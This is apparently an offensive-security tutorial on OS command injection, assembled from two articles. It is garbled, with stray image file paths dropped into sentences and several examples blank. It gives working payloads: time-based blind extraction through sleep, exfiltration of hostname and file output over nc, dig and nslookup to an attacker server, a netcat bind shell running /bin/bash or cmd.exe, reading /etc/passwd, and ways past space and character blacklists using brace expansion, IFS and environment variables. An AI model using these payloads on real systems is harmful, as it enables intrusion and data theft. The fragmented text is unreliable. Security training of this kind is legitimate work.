In order toextract the output, we have to guess the output based on something that we can change. In this case, the execution time can be increased using the sleep command. This can be used to extract the output. The trick here is to pass the result of a command to the sleep command. Here’s an example: sleep $(hostname | cut -c 1 | tr a 5). Let’s analyze this for a moment.

  1. It’s executing the hostname command. Let’s assume it returns hacker.local.

  2. It’ll take that output and pass it to cut -c 1. This will take the first character of hacker.local, which is the character h.

  3. It passes it to tr a 5, which will replace the character a with a 5 in the output of the cut command (h).

  4. The output of the tr command is then passed to the sleep command, resulting in sleep h being executed. This will immediately error, since sleep can only take a number as first argument. The goal is then to iterate over the characters with the tr command. Once you execute sleep$(hostname | cut -c 1 | tr h 5), the command will take 5 seconds longer to execute. This is how you determine that the first character is an h.

  5. Once you guessed a character, increase the number you pass to the cut -c command, and repeat.

Here’s a table with the commands to determine the output:




ruby server-online.rb ';sleep $(hostname | cut -c 1 | tr a 5)'



ruby server-online.rb ';sleep $(hostname | cut -c 1 | tr h 5)'



ruby server-online.rb ';sleep $(hostname | cut -c 2 | tr a 5)'



ruby server-online.rb ';sleep $(hostname | cut -c 3 | tr a 5)'ruby server-online.rb ';sleep $(hostname | cut -c 3 | tr c 5)'



To determine how many characters you need to guess: pipe the output of hostname to wc -c and pass that to the sleep command. hacker.local is 12 characters. The hostname command returns the hostname and a new line, so wc -c will return 13. We established that normally, the script takes 3 seconds to complete.

$ time ruby server-online.rb ' && sleep $(hostname | wc -c)'0.10s user 0.04s system 0% cpu 16.188 total

The payload above shows that the script now takes 16 seconds to complete, which means the output of hostname is 12 characters: 16 - 3 (baseline) - 1 (new line) = 12 characters. When executing this payload on a web server, know that the output may change: the length of the hostname could change when requests are handled by different servers.

The technique above works fine for smaller outputs, but can take a long time for reading a file. Some of the following methods can be pretty intrusive, so always make sure the company gave you a thumbs up to use more invasive extraction methods. In case outbound connections are blocked and the output is too long to read, here are a few other tricks to try (useful during CTFs):

  • Run a port scan on the server and based on the exposed services, determine a way to extract the output.

    • FTP: try writing the file to a directory you can download files from.• SSH: try writing the output of the command to the MOTD banner, then simply SSH to the server.

    • Web: try writing the output of the command to a file in a public directory (/var/www/).

  • Spawn a shell on a port that can be reached from the outside (only available in custom netcat build): nc -l -n -vv -p 80 -e /bin/bash (unix) or nc -l -n -vv -p 80 -e cmd.exe (windows).

  • Do a DNS query with dig or nslookup to sendthe output to port 53 (UDP): dig `hostname` @your-server or nslookup `hostname` your-server. Output can be captured with nc -l -n -vv -p 53 -u -k on your server. This may work because outbound DNS traffic is often allowed. Check out this tweet how to offload file contents with dig.

  • Change the ICMP packet size when pinging your server to offload data. tcpdump can be used to capture the data. Check out this tweet how to do this.

There’s plenty of other ways, but it often depends on what kind of options the servers gives you. The technique shown above are most common when exploiting command injection vulnerabilities. The key is to use what you have to extract the output!

Defeating mitigations

Sometimes mitigations have been put in place, which may cause the above techniques not to work. One of the mitigations that I’ve seen over the years, is a restriction on whitespace in the payload. Luckily, there’s something called Brace Expansion that can be used to create payloads without whitespace. Below is ping-2.rb, which is the second version of ping.rb. Before passing the user input to the command, it removes whitespace from the input.

puts `ping -c 4 #{ARGV[0].gsub(/\s+?/,'')}`

When passing && sleep 5 as argument, it’d execute ping -c 4, which will result in an error showing that the command sleep5 isn’t found. There’s an easy workaround by using brace expansion:

$ time ruby ping-2.rb ';{sleep,5}'


0.10s user 0.04s system 1% cpu 8.182total

Here’s a payload that sends the output of a command to an external server without using whitespace:

$ ruby ping.rb ';hostname|{nc,,81}'

PING ( 56 data bytes


Or to read /etc/passwd:

$ ruby ping.rb';{cat,/etc/passwd}'

PING ( 56 data bytes

64 bytes from icmp_seq=0 ttl=46 time=9.215 ms

64 bytes from icmp_seq=1 ttl=46 time=10.194 ms

64 bytes from icmp_seq=2 ttl=46 time=10.171 ms

64 bytes from icmp_seq=3 ttl=46 time=8.615 ms

--- ping statistics ---

4 packets transmitted, 4 packets received, 0.0% packet loss

round-trip min/avg/max/stddev = 8.615/9.549/10.194/0.668 ms


# User Database


# Note that this file is consulted directly only when the system is running

# in single-user mode. At other times this information is provided by

# Open Directory.Whenever a command is being executed with user input mitigations have to be put in place by the developer. Developers take different routes to implement mitigations, so it’s up to you to discover what they did and how to work around them.

Happy hacking!

Hack Intel

How Command Injection Works

  • An attacker should first identify the point of injection to allow them to insert the malicious payload into the command.

  • By attempting to append the command through various injection methods to see if the command output changed from the usual result. If it changes, the vulnerability is exploited successfully.This may not be true for more advanced OS command injection vulnerabilities which need the utilization of fuzzing or code review (if possible) to identify potential command injection vulnerabilities, and then gradually build the payload until the command injection is successful.

  • Then the attacker would execute arbitrary commands to collect the data needed to pivot into other systems of the vulnerable application server or steal information/data directly from the injection point.

Identifying and executing arbitrary commands

The below PHP application code shows the output of the ping command in the web application:

The application is using the shell_exec (PHP function) which executes the ping command via shell and returns the complete output as a string.

The user needs to input their IP address and the web application sends ICMP pings to the address provided and then displays the output of the ping command.

The IP address is passed using the HTTP “GET” method and then used in the command line.

The developer of the application does not perform any input validation.

See Also: So you want to be a hacker?
Complete Offensive Security and Ethical Hacking CourseNormal flow of the application’s GET request

The normal flow of the application using the GET request and the URL looks like the following:

The PHP function (shell_exec) executes the following OS command: ping -n 1 <IP_address>, and displays the command output.

Manipulating the GET request

The attacker can then manipulate the GET request (using a web proxy that can intercept HTTP requests e.g. Burp,  to bypass any FE validation), and add extra parameters using command operators, in this case, the &&.

Attacker’s manipulated URL looks like:


Encoding the command operator using URL-encoded format to bypass filters:

As a result, the vulnerable application executes the additional command (dir) and displays the command output, which in this case is a directory listing.

Trending: Recon Tool: BF ActiveSubCommand Injection Operators – Cheatsheet

There are many operators to injectan arbitrary command. The most used for Linux is the semicolon (;), and for Windows, the ampersand (&).

The following cheats-sheet shows some of the most used operators’ names, characters, their URL-encoded characters, and what commands will be executed.

For Windows and Unix-based systems:

Injection OperatorInjection CharacterURL-Encoded CharacterExecuted Command

Ampersand&%26Both (second output generally shown first)

AND&&%26%26Both (only if first succeeds)

Pipe|%7cBoth (only second output is shown)

OR||%7c%7cSecond (only if first fails)

New Line\n%0aBoth


As you can see, there are various operators to choose from for any scenario. There are more than the provided ones but those could be considered the most wildly known and used.

Bypassing filtered characters and commands

Even if software developers attempt to secure a webapplication against injections, it may still be exploitable if it’s not properly coded. The developer may utilize a mitigation for injection vulnerabilities and add blacklisted characters and words on the back-end to detect injection attempts and deny the request.

A PHP code example using mitigation injected commands, blacklisting characters in order to deny any request that may contain them.

Bypassing Blacklisted Spaces

Space is a commonly blacklisted character, especially if the input should not contain any spaces. However, there are ways to add a space character without actually using the spacecharacter.


One way to bypass blacklisted spaces is using the Linux Environment Variable {IFS}, which its default value is a space and a tab.

Taking into consideration our previous example a space could be added after the command:{IFS}<name_of_directory>


Another way is using tabs instead of spaces, which is a technique that may work as both Linux and Windows accept commands with tabs between arguments. The tab character is %09.

Using the previous example we can replace {IFS} with the tab character:<name_of_directory>

Bypass blacklisted characters

Upon finding the vulnerable injection point, to build the injection command and find what is a filter or not, it needs to be gradual in order to understand what isfiltered and what is not.

Depending on the web application, bypassing the filtering of the operators could be considered by just adding the encoded operators (& -> %26) instead of their injection character. Trying every possible operator could lead to successfully injecting a command. Another option is to use the new-line(\n) operator which is usually not blacklisted since it may be needed in the payload itself.

Besides injection operators, a commonly blacklisted character is the slash(/) and backslash(\), as they are necessary for specifying directories in Windows and Linux.


Among many techniques to utilize slashes in a payload, one technique is to replace characters through Linux Environment Variables. Linux Environment Variables are a set of dynamic named values, stored within the system that is used by applications launched in shells or subshells.

The printenv command prints all the environment variables in Linux:

For replacing the slash character we can use the PATH environment variable in Linux.

By adding: 0:1 we indicate to start at the character 0 and take a string of length 1.
This will produce the slash(/):


We can confirm it by running it with the echo command.

We can also use the LS_COLORS variable to replace the semicolon(;) operator:

Trending: OSINT Tool: Blackbird


The same concept applies to Windows. Using the cmd, we can use the Windows variable %HOMEPATH% to produce the backslash(\) character.

echo %HOMEPATH%\Users\<name_of_user>

To produce the \ character we should first specify the starting position (~ 6, which is 6 characters after the first \, => \Users), and depending on the user name length, we should specify a negative end position, in this case, is -5.

So the character inserted in the payload should be:


Bypassing Blacklisted CommandsThere are some different methods when it comes to bypassing blacklisted commands. A commands blacklist is usually a list of words that are filtered out of the user input.

A command blacklist filter in PHP:

This is a basic blacklist for commands, that looks for an exact match of the provided commands.

